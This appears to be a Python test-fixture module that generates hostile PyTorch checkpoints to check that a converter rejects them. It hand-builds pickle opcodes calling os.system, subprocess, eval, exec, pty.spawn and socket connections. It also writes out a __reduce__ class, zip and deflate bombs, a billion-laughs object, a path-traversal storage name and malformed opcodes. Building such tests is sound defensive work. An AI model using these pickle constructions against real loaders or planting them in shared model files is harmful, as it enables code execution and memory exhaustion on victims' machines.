"""Hostile pickles and archives: code, other objects, bombs, cycles, broken opcodes."""

from __future__ import annotations

import io
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from safetensors.torch import save

from tests.convert.corpus import NOT_MADE, UNSOUND, add, content

NO_MODEL = frozenset({"unknown format", "unknown family"})
UNET = "model.diffusion_model.input_blocks.0.0.weight"


def fill() -> None:
    _payloads()
    _newer_protocols()
    _saved_ones()
    _archives()
    _opcodes()


# --- pickles by hand ------------------------------------------------------------------------


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(where: str, *arguments: str) -> bytes:
    """The opcodes that call ``where`` ("module name") with strings."""
    module, name = where.split(" ")
    given = b"(" + b"".join(text(one) for one in arguments) + b"t"
    return b"c" + f"{module}\n{name}\n".encode() + given + b"R"


def pickled(opcodes: bytes) -> bytes:
    return b"\x80\x02" + opcodes + b"."


def zipped(data: bytes, compression: int = zipfile.ZIP_STORED, **others: bytes) -> bytes:
    """The archive that torch.save writes, around the pickle ``data``."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/byteorder", b"little")
        for name, member in others.items():
            archive.writestr(f"archive/{name.replace('__', '/')}", member)
        archive.writestr("archive/version", b"3\n")
    return stream.getvalue()


def legacy(opcodes: bytes) -> bytes:
    """The form before the archive: a magic number, a version, the machine, then the object."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    machine = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    return magic + pickle.dumps(1001, 2) + pickle.dumps(machine, 2) + pickled(opcodes)


PAYLOADS = {
    "os.system": ("os system", "touch {marker}"),
    "posix.system": ("posix system", "touch {marker}"),
    "nt.system": ("nt system", "touch {marker}"),
    "subprocess": ("subprocess getoutput", "touch {marker}"),
    "eval": ("builtins eval", "open({marker!r}, 'w')"),
    "exec": ("builtins exec", "open({marker!r}, 'w')"),
    "old eval": ("__builtin__ eval", "open({marker!r}, 'w')"),
    "open": ("io open", "{marker}", "w"),
    "getattr": ("builtins getattr", "{marker}", "lower"),
    "import": ("importlib import_module", "antigravity"),
    "runpy": ("runpy run_path", "{marker}"),
    "pty": ("pty spawn", "touch {marker}"),
    "connection": ("socket create_connection", "192.0.2.1"),
    "browser": ("webbrowser open", "http://192.0.2.1/"),
    "torch.hub": ("torch.hub load", "192.0.2.1/x", "y"),
    "torch.load": ("torch load", "{marker}"),
    "torch source": ("torch.jit._script script", "x"),
    "numpy.load": ("numpy load", "{marker}"),
    "numpy exec": ("numpy.testing._private.utils runstring", "open({marker!r}, 'w')", "x"),
    "code in main": ("__main__ Evil", "x"),
    "transformers": ("transformers pipeline", "x"),
    "dill": ("dill _dill", "x"),
    "omegaconf": ("omegaconf.listconfig ListConfig", "x"),
    "other callback": ("pytorch_lightning.callbacks.early_stopping EarlyStopping", "x"),
    "numpy array": ("numpy.core.multiarray _reconstruct", "x"),
    "near the list": ("numpy.core.multiarray scalar.__class__", "x"),
}


def _payloads() -> None:
    wrappings: dict[str, Callable[[bytes], bytes]] = {
        "raw": pickled,
        "zip": lambda opcodes: zipped(pickled(opcodes)),
        "nested": lambda opcodes: zipped(
            pickled(b"}" + text("state_dict") + b"}" + text("w") + opcodes + b"ss")
        ),
        "legacy": legacy,
    }
    for name, (where, *arguments) in PAYLOADS.items():
        for form, wrap in wrappings.items():

            def build(
                folder: Path,
                marker: Path,
                where: str = where,
                arguments: list[str] = arguments,
                wrap: Callable[[bytes], bytes] = wrap,
            ) -> Path:
                given = [argument.format(marker=str(marker)) for argument in arguments]
                file = folder / "hostile.ckpt"
                file.write_bytes(wrap(call(where, *given)))
                return file

            add(f"{name}, {form}", NOT_MADE, build)


class _System:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (f"touch {self.marker}",)


def _newer_protocols() -> None:
    for protocol in (3, 4, 5):

        def build(folder: Path, marker: Path, protocol: int = protocol) -> Path:
            file = folder / "hostile.pt"
            file.write_bytes(zipped(pickle.dumps({"w": _System(marker)}, protocol)))
            return file

        add(f"os.system, protocol {protocol}", NOT_MADE, build)


# --- checkpoints that torch itself writes ----------------------------------------------------


def saved(name: str, reasons: frozenset[str] | str, make: Callable[[], object]) -> None:
    def build(folder: Path, _: Path) -> Path:
        file = folder / "hostile.ckpt"
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            torch.save(make(), file)
        return file

    add(name, reasons, build)


def _cycle() -> object:
    state: dict[str, object] = {"w": torch.ones(2)}
    state["state_dict"] = state
    return state


def _long_cycle() -> object:
    one: dict[str, object] = {}
    other: dict[str, object] = {"state_dict": one}
    one["state_dict"] = other
    return one


def _deep() -> object:
    state: dict[str, object] = {"w": torch.ones(2)}
    for _ in range(6):
        state = {"state_dict": state}
    return state


def _laughs() -> object:
    level: object = ["lol"] * 10
    for _ in range(20):
        level = [level] * 10
    return {"state_dict": {"w": torch.ones(2), "x": level}}


def _many_views() -> object:
    block = torch.ones(1000, 1000)
    return {f"w{number}": block.view(1000, 1000) for number in range(500)}


def _saved_ones() -> None:
    saved("itself inside", "hostile", _cycle)
    saved("two inside each other", "hostile", _long_cycle)
    saved("too deep", "hostile", _deep)
    saved("a billion laughs", "unknown objects", _laughs)
    saved("giant stride", "hostile", lambda: {"w": torch.ones(1).expand(10**9)})
    saved(
        "giant stride inside",
        "hostile",
        lambda: {"state_dict": {UNET: torch.ones(1).expand(320, 4, 10**6, 10**6)}},
    )
    saved("overlapping", "hostile", lambda: {"w": torch.ones(64).as_strided((9**6, 4), (0, 1))})
    saved("many names for one", "hostile", _many_views)
    saved("no state", "unknown format", dict)
    saved("empty state", "unknown format", lambda: {"state_dict": {}})
    saved("a list", "unknown format", lambda: [torch.ones(2)])
    saved("a tensor", "unknown format", lambda: torch.ones(2))
    saved("a string", "unknown format", lambda: "weights")
    saved("a number as state", "unknown format", lambda: {"state_dict": 3})
    saved("numbers as names", "unknown objects", lambda: {"state_dict": {1: torch.ones(2)}})
    saved("a number among tensors", "unknown objects", lambda: {"state_dict": {"w": 3}})
    saved("a list among tensors", "unknown objects", lambda: {"w": [1, 2]})
    saved("sparse", "unknown objects", lambda: {"w": torch.eye(4).to_sparse()})
    saved("sparse rows", "unknown objects", lambda: {"w": torch.eye(4).to_sparse_csr()})
    saved("no data at all", "unknown objects", lambda: {"w": torch.ones(9, device="meta")})
    saved(
        "quantised",
        frozenset({"unknown objects", "damaged"}),
        lambda: {"w": torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.qint8)},
    )
    saved("integers as weights", NO_MODEL, lambda: {"w": torch.ones(768, dtype=torch.int8)})
    saved("complex numbers", NO_MODEL, lambda: {"w": torch.ones(768, dtype=torch.complex64)})
    saved("not a number", "not finite", lambda: {"w": torch.full((768,), float("nan"))})
    saved("infinite", "not finite", lambda: {"w": torch.full((768,), float("inf"))})
    saved("not Stable Diffusion", "unknown family", lambda: {"layer.weight": torch.ones(3, 3)})
    saved("a module", NOT_MADE, lambda: torch.nn.Linear(2, 2))


def _changed(
    name: str, reasons: frozenset[str] | str, change: Callable[[bytes], bytes], suffix: str
) -> None:
    """A sound file, then ``change``."""

    def build(folder: Path, _: Path) -> Path:
        state = {"<cat>": torch.ones(768)}
        if suffix == ".safetensors":
            data = save(state)
        else:
            stream = io.BytesIO()
            torch.save(state, stream)
            data = stream.getvalue()
        file = folder / f"hostile{suffix}"
        file.write_bytes(change(data))
        return file

    add(name, reasons, build)


def _deflated(data: bytes) -> bytes:
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as sound,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for member in sound.infolist():
            bomb.writestr(member.filename, sound.read(member))
        bomb.writestr("archive/data/99", bytes(50_000_000))
    return stream.getvalue()


def _twice(data: bytes) -> bytes:
    stream = io.BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(archive.namelist()[0], b"another")
    return stream.getvalue()


def _claimed(data: bytes) -> bytes:
    """The table of contents says that the pickle is larger than the whole file."""
    at = data.rindex(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<I", 2_000_000_000) + data[at + 28 :]


def _archives() -> None:
    _changed("deflate bomb", "hostile", _deflated, ".ckpt")
    _changed("a member twice", "hostile", _twice, ".ckpt")
    _changed("size that is not there", frozenset({"hostile", "damaged"}), _claimed, ".ckpt")
    _changed("cut off", "damaged", lambda data: data[:-50], ".ckpt")
    _changed("cut in half", "damaged", lambda data: data[: len(data) // 2], ".ckpt")
    _changed("only its beginning", "damaged", lambda data: data[:4], ".ckpt")
    _changed("pickle, renamed", UNSOUND, lambda data: data, ".safetensors2")
    content(
        "two pickles",
        "hostile",
        ".ckpt",
        zipped(b"\x80\x02}.", x__data_pkl=b"").replace(b"x/data_pkl", b"x/data.pkl"),
    )
    content("no pickle", "unknown format", ".ckpt", zipped(b"").replace(b"data.pkl", b"data.txt"))
    content("giant pickle", "too large", ".ckpt", zipped(bytes(16_000_001)))
    script = zipped(pickled(b"}"), code____torch___py=b"x")
    content("TorchScript", "code inside", ".pt", script)
    content("bzip2", "hostile", ".ckpt", zipped(bytes(100_000), zipfile.ZIP_BZIP2))
    content("lzma", "hostile", ".ckpt", zipped(bytes(100_000), zipfile.ZIP_LZMA))


def _rebuilt(sizes: str, storage: str = "0", count: int = 4) -> bytes:
    """A tensor of ``sizes`` over a storage of ``count`` floats."""
    pid = (
        b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(storage) + text("cpu")
        + b"J" + struct.pack("<i", count) + b"tQ"
    )  # fmt: skip
    whole = b"".join(b"\x8a\x08" + struct.pack("<q", int(n)) for n in sizes.split())
    shape = b"(" + whole + b"t"
    strides = b"(" + b"K\x01" * len(sizes.split()) + b"t"
    body = b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + b"K\x00" + shape + strides
    body += b"\x89ccollections\nOrderedDict\n)RtR"
    return zipped(pickled(b"}" + text("w") + body + b"s"), data__0=bytes(16))


def _legacy_tensor(count: int) -> bytes:
    """As torch 1.5 wrote it: the storages are named here and follow after the pickle."""
    pid = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu")
    pid += b"\x8a\x08" + struct.pack("<q", count) + b"NtQ"
    body = b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + b"K\x00(K\x04t(K\x01t\x89"
    return b"}" + text("w") + body + b"ccollections\nOrderedDict\n)RtRs"


def _opcodes() -> None:
    bad = UNSOUND | NOT_MADE | {"hostile", "too much memory"}
    content("tensor beyond its storage", bad, ".ckpt", _rebuilt("1000000000"))
    content("tensor beyond all memory", bad, ".ckpt", _rebuilt("4611686018427387904"))
    content("legacy storage beyond all memory", bad, ".ckpt", legacy(_legacy_tensor(10**15)))
    content("legacy storage that is not there", bad, ".ckpt", legacy(_legacy_tensor(4)))
    content("negative size", bad, ".ckpt", _rebuilt("-5"))
    content("storage that is not there", bad, ".ckpt", _rebuilt("4", storage="../../7"))
    huge = 2_000_000_000
    said = bad | {"unknown family"}  # nothing of what is not there is ever looked at
    content("storage larger than its file", said, ".ckpt", _rebuilt("4", count=huge))
    content("tensor larger than its file", bad, ".ckpt", _rebuilt(str(huge), count=huge))
    content("100,000 lists", bad, ".ckpt", zipped(pickled(b"]" * 100_000 + b"a" * 99_999)))
    content("never ends", bad, ".ckpt", zipped(b"\x80\x02" + b"]" * 1000))
    content("nothing in it", bad, ".ckpt", zipped(pickled(b"")))
    content("protocol 99", bad, ".ckpt", zipped(b"\x80\x63}."))
    content("a string of 4 GB", bad, ".ckpt", zipped(b"\x80\x02X\xff\xff\xff\xff."))
    content("a number of 2 GB", bad, ".ckpt", zipped(b"\x80\x02\x8b\xff\xff\xff\x7f."))
    content("memo from nowhere", bad, ".ckpt", zipped(pickled(b"h\x63")))
    content("memo of billions", bad, ".ckpt", zipped(pickled(b"}r\xff\xff\xff\xff")))
    content("extension registry", bad, ".ckpt", zipped(pickled(b"\x82\x01")))
    content("other persistent id", bad, ".ckpt", zipped(pickled(text("file:///") + b"Q")))
    content("instance", bad, ".ckpt", zipped(pickled(b"(ios\nsystem\n")))
    content(
        "build on a dictionary", bad, ".ckpt",
        zipped(pickled(b"ccollections\nOrderedDict\n)R}" + text("pop") + text("x") + b"sb")),
    )  # fmt: skip
    content(
        "set of itself", bad, ".ckpt",
        zipped(pickled(b"cbuiltins\nset\n(]t" + b"R")),
    )  # fmt: skip
